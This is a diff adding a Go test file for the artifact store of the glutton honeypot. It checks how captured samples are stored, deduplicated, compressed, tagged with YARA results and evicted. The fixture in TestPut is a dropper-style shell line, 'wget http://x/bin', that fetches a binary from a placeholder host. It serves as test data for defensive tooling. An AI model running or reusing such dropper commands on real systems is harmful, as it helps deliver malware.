@@ -0,0 +1,152 @@
+package artifact
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/mushorg/glutton/yara"
+
+	"github.com/stretchr/testify/require"
+)
+
+func testStore(t *testing.T, opts Options) (*Store, *time.Time) {
+	t.Helper()
+	s, err := Open(t.TempDir(), opts)
+	require.NoError(t, err)
+	t.Cleanup(func() { require.NoError(t, s.Close()) })
+	now := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
+	s.now = func() time.Time { return now }
+	return s, &now
+}
+
+func TestPut(t *testing.T) {
+	s, now := testStore(t, Options{})
+
+	meta, err := s.Put([]byte("#!/bin/sh\nwget http://x/bin\n"), Info{Kind: KindSample, Handler: "telnet", Source: "192.0.2.1", URL: "http://x/s.sh"})
+	require.NoError(t, err)
+	require.Len(t, meta.SHA256, 64)
+	require.Equal(t, "text/plain; charset=utf-8", meta.MIMEType)
+	require.FileExists(t, filepath.Join(s.root, KindSample, meta.SHA256[:2], meta.SHA256[2:4], meta.SHA256))
+
+	// a second sighting returns the same hash and updates the index
+	*now = now.Add(time.Hour)
+	again, err := s.Put([]byte("#!/bin/sh\nwget http://x/bin\n"), Info{Kind: KindSample, Handler: "http", Source: "192.0.2.2"})
+	require.NoError(t, err)
+	require.Equal(t, meta.SHA256, again.SHA256)
+	require.Equal(t, int64(2), again.Count)
+	require.Equal(t, meta.FirstSeen, again.FirstSeen)
+	require.Equal(t, *now, again.LastSeen)
+	require.Equal(t, []string{"192.0.2.1", "192.0.2.2"}, again.Sources)
+	require.Equal(t, []string{"telnet", "http"}, again.Handlers)
+	require.Equal(t, []string{"http://x/s.sh"}, again.URLs)
+	require.Equal(t, meta.StoredSize, s.Size())
+
+	require.NoError(t, s.SetYara(meta.SHA256, &yara.Result{SHA256: meta.SHA256, Matches: []yara.Match{{Rule: "dropper"}}}))
+	stored, err := s.Get(meta.SHA256)
+	require.NoError(t, err)
+	require.Equal(t, "dropper", stored.Yara.Matches[0].Rule)
+
+	missing, err := s.Get(strings.Repeat("0", 64))
+	require.NoError(t, err)
+	require.Nil(t, missing)
+
+	_, err = s.Put([]byte("x"), Info{Kind: "../x"})
+	require.Error(t, err)
+}
+
+func TestFindSession(t *testing.T) {
+	s, _ := testStore(t, Options{})
+
+	_, err := s.Put([]byte("payload"), Info{Kind: KindPayload, Session: "a"})
+	require.NoError(t, err)
+	cast, err := s.Put([]byte(`{"version":2}`), Info{Kind: KindTranscript, Session: "a"})
+	require.NoError(t, err)
+
+	meta, err := s.FindSession("a", KindTranscript)
+	require.NoError(t, err)
+	require.Equal(t, cast.SHA256, meta.SHA256)
+	require.Equal(t, []string{"a"}, meta.Sessions)
+
+	meta, err = s.FindSession("b", KindTranscript)
+	require.NoError(t, err)
+	require.Nil(t, meta)
+}
+
+func TestCompress(t *testing.T) {
+	s, _ := testStore(t, Options{Compress: true})
+	data := []byte(strings.Repeat("A", 4096))
+
+	meta, err := s.Put(data, Info{Kind: KindPayload})
+	require.NoError(t, err)
+	require.True(t, meta.Compressed)
+	require.Less(t, meta.StoredSize, meta.Size)
+	require.FileExists(t, s.path(meta))
+	require.True(t, strings.HasSuffix(s.path(meta), ".zst"))
+
+	read, err := s.Read(meta.SHA256)
+	require.NoError(t, err)
+	require.Equal(t, data, read)
+}
+
+func TestMaxObjectSize(t *testing.T) {
+	s, _ := testStore(t, Options{MaxObjectSize: 4})
+	_, err := s.Put([]byte("12345"), Info{Kind: KindPayload})
+	require.ErrorIs(t, err, ErrTooLarge)
+}
+
+func TestEvictSize(t *testing.T) {
+	s, now := testStore(t, Options{MaxSize: 25})
+
+	var metas []*Meta
+	for _, data := range []string{"first....", "second...", "third...."} {
+		*now = now.Add(time.Minute)
+		meta, err := s.Put([]byte(data), Info{Kind: KindPayload})
+		require.NoError(t, err)
+		metas = append(metas, meta)
+	}
+
+	// the third artifact exceeded the quota, the oldest one made room
+	gone, err := s.Get(metas[0].SHA256)
+	require.NoError(t, err)
+	require.Nil(t, gone)
+	require.NoFileExists(t, s.path(metas[0]))
+	require.Equal(t, int64(18), s.Size())
+}
+
+func TestEvictAge(t *testing.T) {
+	s, now := testStore(t, Options{MaxAge: 24 * time.Hour})
+
+	old, err := s.Put([]byte("old"), Info{Kind: KindPayload})
+	require.NoError(t, err)
+	*now = now.Add(48 * time.Hour)
+	recent, err := s.Put([]byte("recent"), Info{Kind: KindPayload})
+	require.NoError(t, err)
+
+	require.NoError(t, s.Evict())
+	meta, err := s.Get(old.SHA256)
+	require.NoError(t, err)
+	require.Nil(t, meta)
+	meta, err = s.Get(recent.SHA256)
+	require.NoError(t, err)
+	require.NotNil(t, meta)
+}
+
+func TestReopen(t *testing.T) {
+	root := t.TempDir()
+	s, err := Open(root, Options{})
+	require.NoError(t, err)
+	meta, err := s.Put([]byte("payload"), Info{Kind: KindPayload})
+	require.NoError(t, err)
+	require.NoError(t, s.Close())
+
+	// the index and the total size survive a restart
+	s, err = Open(root, Options{})
+	require.NoError(t, err)
+	defer s.Close()
+	require.Equal(t, int64(len("payload")), s.Size())
+	data, err := s.Read(meta.SHA256)
+	require.NoError(t, err)
+	require.Equal(t, []byte("payload"), data)
+}